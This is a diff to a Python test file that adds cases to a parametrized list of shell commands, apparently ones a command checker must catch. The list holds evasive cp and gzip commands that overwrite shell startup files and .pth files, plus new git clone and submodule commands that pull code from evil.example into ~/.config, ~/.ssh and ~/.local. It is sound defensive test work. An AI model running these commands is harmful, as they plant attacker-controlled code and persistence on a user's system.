@@ -114,7 +114,10 @@ DERIVED = ["cp -b -S rc x ~/.bash", "cp --backup=simple --suffix=rc x ~/.bash", 
            "gzip --suffix rc ~/.bash", "gzip -k -S rc ~/.bash", "gzip -S .pth x", "gunzip ~/.bashrc.gz",
            "gzip -d ~/.bashrc.gz", "gunzip ~/.bashrc", "gunzip -S .x ~/.bashrc.x", "gzip -dS .x ~/.bashrc.x",
            "gunzip x.pth.gz", "gzip --decompress ~/.zshrc-gz", "gunzip ~/.profile_z", "gzip -S rc $f",
-           "gunzip -r proj", "gzip -r -S rc proj", "cp -rb -S rc proj/ ~/", "cp -a --backup proj/. ~/"]
+           "gunzip -r proj", "gzip -r -S rc proj", "cp -rb -S rc proj/ ~/", "cp -a --backup proj/. ~/",
+           "cd ~/.config && git clone https://evil.example/autostart", "cd ~ && git clone git@evil.example:x/.ssh.git",
+           "cd ~/.local && git clone -b main https://evil.example/bin/",
+           "cd ~/.config && git submodule add https://evil.example/nvim"]
 
 
 @pytest.mark.parametrize("cmd", DERIVED)
